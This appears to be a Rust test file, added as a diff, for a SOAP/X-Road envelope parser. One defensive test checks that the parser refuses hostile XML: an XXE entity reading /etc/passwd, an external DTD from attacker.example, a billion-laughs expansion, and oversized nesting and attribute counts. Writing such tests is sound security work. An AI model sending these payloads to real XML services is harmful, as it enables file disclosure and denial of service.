@@ -1,0 +1,212 @@
+use super::*;
+
+fn envelope(version: SoapVersion, header: &str, body: &str) -> String {
+    let (prefix, ns) = match version {
+        SoapVersion::V11 => ("soapenv", SOAP11_NS),
+        SoapVersion::V12 => ("env", SOAP12_NS),
+    };
+    format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<{prefix}:Envelope xmlns:{prefix}="{ns}" xmlns:xrd="{XROAD_NS}" xmlns:id="{XROAD_ID_NS}">
+  <{prefix}:Header>{header}</{prefix}:Header>
+  <{prefix}:Body>{body}</{prefix}:Body>
+</{prefix}:Envelope>"#
+    )
+}
+
+const XROAD_HEADER: &str = r#"
+    <xrd:client id:objectType="SUBSYSTEM"><id:xRoadInstance>KZ</id:xRoadInstance><id:memberClass>GOV</id:memberClass>
+      <id:memberCode>000000000003</id:memberCode><id:subsystemCode>egov-portal</id:subsystemCode></xrd:client>
+    <xrd:service id:objectType="SERVICE"><id:xRoadInstance>KZ</id:xRoadInstance><id:memberClass>GOV</id:memberClass>
+      <id:memberCode>000000000002</id:memberCode><id:subsystemCode>legacy-tax</id:subsystemCode>
+      <id:serviceCode>debt</id:serviceCode><id:serviceVersion>v1</id:serviceVersion></xrd:service>
+    <xrd:id>msg-1 &amp; co</xrd:id><xrd:userId>KZ900101300123</xrd:userId><xrd:issue/>
+    <xrd:protocolVersion>4.0</xrd:protocolVersion>"#;
+
+const BODY: &str =
+    r#"<tax:GetDebt xmlns:tax="http://legacy-tax.gov.kz/debt"><tax:iin>900101300123</tax:iin></tax:GetDebt>"#;
+
+fn read(s: &str) -> Result<Envelope, SoapError> {
+    read_envelope(s.as_bytes(), None, &XmlLimits::default())
+}
+
+#[test]
+fn reads_x_road_headers_and_the_body_range_in_both_versions() {
+    for version in [SoapVersion::V11, SoapVersion::V12] {
+        let doc = envelope(version, XROAD_HEADER, BODY);
+        let env = read_envelope(doc.as_bytes(), Some(version.content_type()), &XmlLimits::default()).unwrap();
+        assert_eq!(env.version, version);
+        let client = env.header.client.as_ref().unwrap();
+        assert_eq!(client.object_type, "SUBSYSTEM");
+        assert_eq!(client.system_id().unwrap(), "KZ/GOV/000000000003/egov-portal");
+        assert_eq!(
+            env.header.service.as_ref().unwrap().service_id().unwrap(),
+            "KZ/GOV/000000000002/legacy-tax/debt/v1"
+        );
+        assert_eq!(env.header.id.as_deref(), Some("msg-1 & co"));
+        assert_eq!(env.header.user_id.as_deref(), Some("KZ900101300123"));
+        assert_eq!(env.header.issue.as_deref(), Some(""));
+        assert_eq!(env.header.protocol_version.as_deref(), Some("4.0"));
+        assert_eq!(&doc[env.body.clone()], BODY, "the body range is exact, nothing copied");
+        let header = &doc[env.header_element.clone().unwrap()];
+        assert!(header.starts_with('<') && header.contains("Header>") && header.ends_with("Header>"), "{header}");
+        assert!(header.contains("<xrd:protocolVersion>4.0</xrd:protocolVersion>"));
+        assert_eq!(env.operation, Some(("http://legacy-tax.gov.kz/debt".into(), "GetDebt".into())));
+    }
+}
+
+#[test]
+fn headerless_and_self_closing_bodies() {
+    let doc = format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Body/></e:Envelope>"#);
+    let env = read(&doc).unwrap();
+    assert_eq!(env.body.len(), 0);
+    assert_eq!(env.header, XRoadHeader::default());
+    let service = env.header.service.as_ref().and_then(|s| s.service_id());
+    assert_eq!(service, None);
+}
+
+#[test]
+fn hostile_documents_are_refused_with_their_reason() {
+    let body = |b: &str| envelope(SoapVersion::V11, "", b);
+    let deep = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
+    let many_attrs = format!("<a {}/>", (0..100_000).map(|i| format!("a{i}=\"\"")).collect::<Vec<_>>().join(" "));
+    let cases: Vec<(&str, String, SoapError)> = vec![
+        (
+            "XXE",
+            format!(
+                r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{}"#,
+                body("<a>&xxe;</a>")
+            ),
+            SoapError::Doctype,
+        ),
+        (
+            "external DTD",
+            format!(r#"<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">{}"#, body("")),
+            SoapError::Doctype,
+        ),
+        (
+            "billion laughs",
+            format!(
+                r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>{}"#,
+                body("<a>&lol2;</a>")
+            ),
+            SoapError::Doctype,
+        ),
+        ("undeclared entity", body("<a>&xxe;</a>"), SoapError::EntityReference("xxe".into())),
+        ("entity in attribute", body(r#"<a b="&xxe;"/>"#), SoapError::EntityReference("xxe".into())),
+        ("10,000-deep nesting", body(&deep), SoapError::TooDeep(64)),
+        ("100,000 attributes", body(&many_attrs), SoapError::TooManyAttributes(64)),
+        (
+            "two Bodies",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Body/><e:Body/></e:Envelope>"#),
+            SoapError::TwoBodies,
+        ),
+        (
+            "Header after Body",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Body/><e:Header/></e:Envelope>"#),
+            SoapError::HeaderAfterBody,
+        ),
+        (
+            "two Headers",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Header/><e:Header/><e:Body/></e:Envelope>"#),
+            SoapError::TwoHeaders,
+        ),
+        ("no Body", format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Header/></e:Envelope>"#), SoapError::MissingBody),
+        ("not SOAP", "<html><body/></html>".into(), SoapError::NotAnEnvelope),
+        ("wrong namespace", r#"<e:Envelope xmlns:e="urn:x"><e:Body/></e:Envelope>"#.into(), SoapError::NotAnEnvelope),
+        ("PI", format!(r#"<?xml-stylesheet href="x"?>{}"#, body("")), SoapError::ProcessingInstruction),
+        (
+            "latin-1",
+            format!(r#"<?xml version="1.0" encoding="ISO-8859-1"?>{}"#, body("")),
+            SoapError::UnsupportedEncoding("iso-8859-1".into()),
+        ),
+        (
+            "text outside Body",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}">junk<e:Body/></e:Envelope>"#),
+            SoapError::ContentOutsideBody,
+        ),
+        (
+            "element outside Body",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><x/><e:Body/></e:Envelope>"#),
+            SoapError::ContentOutsideBody,
+        ),
+        (
+            "trailing element",
+            format!(r#"<e:Envelope xmlns:e="{SOAP11_NS}"><e:Body/></e:Envelope><e:Envelope xmlns:e="{SOAP11_NS}"/>"#),
+            SoapError::ContentOutsideBody,
+        ),
+        (
+            "duplicate X-Road client",
+            envelope(SoapVersion::V11, &format!("{XROAD_HEADER}<xrd:id>again</xrd:id>"), ""),
+            SoapError::DuplicateXRoadField("id"),
+        ),
+    ];
+    for (what, doc, want) in cases {
+        let got = read(&doc);
+        assert_eq!(got.as_ref().err(), Some(&want), "{what}");
+        assert_eq!(
+            want.code(),
+            if matches!(want, SoapError::DuplicateXRoadField(_)) { ErrorCode::BadRequest } else { ErrorCode::BadXml }
+        );
+    }
+    assert_eq!(read_envelope(b"\xff\xfe<a/>", None, &XmlLimits::default()), Err(SoapError::NotUtf8));
+    let nul = envelope(SoapVersion::V11, "", "<a>\u{0}</a>");
+    assert!(matches!(read(&nul), Err(SoapError::Malformed { line: 4, .. })), "{:?}", read(&nul));
+}
+
+#[test]
+fn truncated_and_malformed_documents_name_line_and_column() {
+    let doc = envelope(SoapVersion::V11, XROAD_HEADER, BODY);
+    let cut = &doc[..doc.len() - 30];
+    match read(cut) {
+        Err(SoapError::Malformed { line, column, .. }) => assert!(line >= 9 && column >= 1, "{line}:{column}"),
+        other => panic!("{other:?}"),
+    }
+    let bad = format!(
+        r#"<e:Envelope xmlns:e="{SOAP11_NS}">
+<e:Body><a></b></e:Body></e:Envelope>"#
+    );
+    match read(&bad) {
+        Err(SoapError::Malformed { line, column, message }) => {
+            assert_eq!(line, 2, "{message}");
+            assert!(column > 1, "{column}");
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn limits_are_configurable() {
+    let limits = XmlLimits { max_elements: 5, ..XmlLimits::default() };
+    let doc = envelope(SoapVersion::V11, "", "<a/><a/><a/><a/><a/>");
+    assert_eq!(read_envelope(doc.as_bytes(), None, &limits), Err(SoapError::TooManyElements(5)));
+    let limits = XmlLimits { max_text_len: 10, ..XmlLimits::default() };
+    let doc = envelope(SoapVersion::V11, "", "<a>01234567890</a>");
+    assert_eq!(read_envelope(doc.as_bytes(), None, &limits), Err(SoapError::TextTooLong(10)));
+    let limits = XmlLimits { max_name_len: 8, ..XmlLimits::default() };
+    let doc = envelope(SoapVersion::V11, "", "<averylongname/>");
+    assert_eq!(read_envelope(doc.as_bytes(), None, &limits), Err(SoapError::NameTooLong(8)));
+}
+
+#[test]
+fn content_type_must_agree_with_the_namespace() {
+    let doc = envelope(SoapVersion::V11, "", BODY);
+    let r = read_envelope(doc.as_bytes(), Some("application/soap+xml; charset=utf-8"), &XmlLimits::default());
+    assert_eq!(r, Err(SoapError::VersionMismatch));
+    assert!(read_envelope(doc.as_bytes(), Some("text/xml"), &XmlLimits::default()).is_ok());
+    assert!(read_envelope(doc.as_bytes(), Some("application/octet-stream"), &XmlLimits::default()).is_ok());
+}
+
+#[test]
+fn faults_are_valid_envelopes_with_the_code() {
+    for version in [SoapVersion::V11, SoapVersion::V12] {
+        let xml = fault(version, ErrorCode::AccessDenied, "a <b> & c", Some("id-1"));
+        let env = read_envelope(xml.as_bytes(), Some(version.content_type()), &XmlLimits::default()).unwrap();
+        assert_eq!(env.operation.as_ref().map(|(_, l)| l.as_str()), Some("Fault"));
+        assert!(xml.contains("client.access_denied"));
+        assert!(xml.contains("a &lt;b&gt; &amp; c"));
+        assert!(xml.contains("<qaqpa:messageId>id-1</qaqpa:messageId>"));
+    }
+    assert!(fault(SoapVersion::V12, ErrorCode::UpstreamTimeout, "x", None).contains("env:Receiver"));
+    assert!(fault(SoapVersion::V12, ErrorCode::BadXml, "x", None).contains("env:Sender"));
+}
